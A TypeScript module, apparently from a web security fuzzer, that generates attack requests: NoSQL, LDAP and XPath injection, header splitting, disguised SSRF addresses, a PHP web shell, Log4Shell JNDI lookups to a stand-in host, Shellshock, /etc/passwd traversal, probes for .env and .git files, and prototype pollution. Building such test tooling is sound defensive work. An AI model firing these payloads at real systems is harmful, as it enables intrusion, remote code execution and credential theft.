import { type MadeAttack, payload } from './attacks.ts';
import type { Json, MadeRequest } from './made-request.ts';

const FORGOTTEN: readonly [readonly string[], ...(readonly string[])[]] = [
  ['.git', 'config'],
  ['.env'],
  ['admin', 'backup.zip'],
  ['wp-login.php'],
  ['actuator', 'heapdump'],
  ['phpmyadmin', 'index.php'],
  ['cgi-bin', '..', '..', 'bin', 'sh'],
  ['server-status'],
];

/** Further kinds; those that stand in paths, in names and in headers among them. */
export const FURTHER_ATTACKS: readonly MadeAttack[] = [
  payload('NoSQL injection', (draw) =>
    draw.one([
      `' || '1'=='1`,
      `'; return true; var x='`,
      `true, $where: '1 == ${draw.number(1, 9)}'`,
      `{"$gt":""}`,
      `[$ne]=${draw.number(1, 99)}`,
      `';sleep(${draw.number(1, 9)}000);var a='`,
    ]),
  ),
  payload('LDAP injection', (draw) =>
    draw.one(['*)(uid=*))(|(uid=*', 'admin)(&)', '*)(objectClass=*', 'x)(|(password=*))', '*', ')(cn=))\u0000']),
  ),
  payload('XPath injection', (draw) =>
    draw.one([
      `'] | //user/*[contains(*,'`,
      `x' or name()='username' or 'x'='y`,
      `' or count(/*)=${draw.number(1, 9)} or 'a'='b`,
      '//*[1]',
      `" or string-length(//user[1]/password)>${draw.number(1, 20)} or "1"="2`,
    ]),
  ),
  payload('splitting of headers', (draw) =>
    draw.one([
      '\r\nSet-Cookie: session=1',
      '%0d%0aLocation: https://evil.example/',
      'x\r\n\r\n<html><script>alert(1)</script>',
      '\nX-Injected: 1',
      '%E5%98%8A%E5%98%8DSet-Cookie:a=b',
    ]),
  ),
  payload('GraphQL abuse', (draw) =>
    draw.one([
      '{__schema{types{name fields{name args{name}}}}}',
      `query{${'a{'.repeat(draw.number(8, 30))}id${'}'.repeat(12)}}`,
      `mutation{${Array.from({ length: draw.number(5, 40) }, (_, index) => `a${index}:login(u:"admin",p:"${index}"){token}`).join(' ')}}`,
      '{__type(name:"User"){fields{name}}}',
    ]),
  ),
  payload('addresses in disguise', (draw) =>
    draw.one([
      'http://0x7f000001/',
      'https://www.example.com@evil.example/',
      '//evil.example\\@good.example',
      'http://2130706433:8080/',
      `http://localtest.me:${draw.number(1, 65_535)}/`,
      'file:///C:/boot.ini',
      'jar:http://evil.example!/x',
    ]),
  ),
  payload('include of code', (draw) =>
    draw.one([
      'php://filter/convert.base64-encode/resource=index',
      'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==',
      '<?php system($_GET["c"]); ?>',
      '<!--#exec cmd="id"-->',
      `<% Runtime.getRuntime().exec("id") %>`,
      `__import__('os').popen('id').read()`,
    ]),
  ),
  {
    kind: 'payload in the path',
    apply: (request, draw) => {
      const at = draw.number(0, Math.max(0, request.path.length - 1));
      const own = draw.one([
        `1' OR '1'='1`,
        '..;',
        '..%2f..%2fetc%2fpasswd',
        ';cat /etc/passwd',
        '<script>alert(1)</script>',
        '${jndi:ldap://198.51.100.9/a}',
        `1 UNION SELECT ${draw.number(1, 9)},2`,
      ]);
      return {
        ...request,
        path: request.path.map((segment, index) => (index === at ? (draw.isOnce(0.5) ? own : `${segment}${own}`) : segment)),
      };
    },
  },
  { kind: 'forgotten files', apply: (request, draw) => ({ ...withoutBody(request), path: draw.one(FORGOTTEN) }) },
  {
    kind: 'payload in a header',
    apply: (request, draw) => ({
      ...request,
      headers: [
        ...(request.headers ?? []).filter(([name]) => name !== 'user-agent'),
        [
          draw.one(['user-agent', 'x-forwarded-host', 'x-api-version', 'referer']),
          draw.one([
            `\${jndi:ldap://198.51.100.9:${draw.number(1000, 9999)}/x}`,
            `() { :;}; /bin/bash -c "id"`,
            `1' AND SLEEP(${draw.number(2, 9)}) AND '1'='1`,
            '<script>alert(1)</script>',
            '../../../../etc/passwd',
          ]),
        ],
      ],
    }),
  },
  {
    kind: 'prototype pollution',
    apply: (request, draw) => withPrototype(request, draw.one(['__proto__', 'constructor'])),
  },
  {
    kind: 'operators as names',
    apply: ({ query = [], ...request }, draw) =>
      query.length > 0
        ? {
            ...request,
            query: query.map(([name, value], index) => [
              index === 0 ? `${name}${draw.one(['[$ne]', '[$regex]', '[]', '[$gt]'])}` : name,
              value,
            ]),
          }
        : { ...request, query: [[`id${draw.one(['[$ne]', '[$regex]', '[$gt]'])}`, '1']] },
  },
];

function withoutBody({ method: _, body: _body, query: _query, ...request }: MadeRequest): MadeRequest {
  return { ...request, method: 'GET' };
}

function withPrototype(request: MadeRequest, name: string): MadeRequest {
  const polluting: Json = name === 'constructor' ? { prototype: { isAdmin: true } } : { isAdmin: true };
  const { body } = request;
  if (body === undefined) return { ...request, query: [...(request.query ?? []), [`${name}[isAdmin]`, 'true']] };
  if (body.kind !== 'json') return { ...request, body: { ...body, fields: [...body.fields, [`${name}[isAdmin]`, 'true']] } };
  const members = typeof body.value === 'object' && body.value !== null ? Object.entries(body.value) : [];
  // Not by an object's own literal, in which the name would mean the prototype.
  return { ...request, body: { kind: 'json', value: Object.fromEntries([...members, [name, polluting]]) } };
}
